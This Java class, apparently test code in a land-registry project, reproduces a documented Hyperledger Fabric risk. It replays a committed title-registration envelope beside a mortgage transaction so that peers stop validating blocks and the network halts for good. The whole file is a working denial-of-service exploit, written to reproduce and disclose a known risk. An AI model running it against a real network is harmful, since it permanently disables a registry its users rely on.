package bt.druk.registry.network;

import bt.druk.registry.infrastructure.fabric.FabricConnectionConfig;
import io.grpc.ManagedChannel;
import java.nio.file.Path;
import java.util.concurrent.TimeUnit;
import org.hyperledger.fabric.client.CommitStatusException;
import org.hyperledger.fabric.client.Gateway;
import org.hyperledger.fabric.client.Network;
import org.hyperledger.fabric.client.Status;
import org.hyperledger.fabric.client.SubmittedTransaction;
import org.hyperledger.fabric.client.Transaction;
import org.hyperledger.fabric.client.identity.Signer;
import org.hyperledger.fabric.client.identity.X509Identity;

/**
 * The open risk of docs/security.md ("A replayed transaction can stop every peer"), as a land
 * clerk's own fabric-gateway client would run it: registers a title, then sends that committed
 * envelope again at the same moment as a mortgage on the same title. On Fabric 3.1.1 both land in one
 * block, which no peer finishes validating. <b>It stops the network it runs against for good</b>:
 * run it only on a throwaway one.
 * <pre>
 * SOFTHSM2_CONF=&lt;network&gt;/softhsm2.conf java -cp &lt;test class path&gt; bt.druk.registry.network.ReplayHaltMain &lt;connection.json&gt; &lt;PIN&gt;
 * </pre>
 * Prints each transaction's outcome; {@code HALTED} when the mortgage's commit status did not come
 * within 60 s (then the peers' {@code ledger_blockchain_height} stays where it was), else {@code COMMITTED}.
 */
public final class ReplayHaltMain {

    private ReplayHaltMain() {
    }

    public static void main(String[] args) throws Exception {
        if (args.length != 2) {
            System.err.println("usage: ReplayHaltMain <connection.json> <PIN>");
            System.exit(64);
        }
        FabricConnectionConfig config = FabricConnectionConfig.read(Path.of(args[0]));
        GatewaySubmitMain.Credentials clerk = GatewaySubmitMain.credentials(config, "land.clerk");
        Signer signer = clerk.signer();
        ManagedChannel channel = GatewaySubmitMain.channelTo(config.peersByMsp().get(clerk.mspId()));
        try (Gateway gateway = Gateway.newInstance().identity(new X509Identity(clerk.mspId(), clerk.certificate())).signer(signer).connection(channel)
                .commitStatusOptions(options -> options.withDeadlineAfter(60, TimeUnit.SECONDS)).connect()) {
            Network network = gateway.getNetwork(config.channel());
            var contract = network.getContract(config.chaincode());
            String key = "land-title:" + args[1];
            String first = NetworkScript.sha256(args[1] + " v1");
            Transaction title = contract.newProposal("RegisterTitle").addArguments(key, first, "THIMPHU", "Thimphu").build().endorse();
            byte[] envelope = title.getBytes();
            byte[] signature = signer.sign(title.getDigest());
            Status registered = title.submitAsync().getStatus();
            System.out.println("REGISTERED " + title.getTransactionId() + " " + registered.getCode() + " in block " + registered.getBlockNumber());

            Transaction mortgage = contract.newProposal("RegisterMortgage")
                    .addArguments(key, "2", NetworkScript.sha256(args[1] + " v2"), first, "M-" + args[1]).build().endorse();
            // the committed envelope again (same transaction id, signed anew) beside the mortgage
            gateway.newSignedTransaction(envelope, signature).submitAsync();
            SubmittedTransaction sent = mortgage.submitAsync();
            System.out.println("REPLAYED " + title.getTransactionId() + " beside the mortgage " + mortgage.getTransactionId());
            try {
                Status status = sent.getStatus();
                System.out.println("COMMITTED the mortgage: " + status.getCode() + " in block " + status.getBlockNumber());
            } catch (CommitStatusException e) {
                System.out.println("HALTED: no commit status for the mortgage within 60 s (" + e.getStatus().getCode() + ")");
            }
        } finally {
            channel.shutdownNow();
        }
    }
}
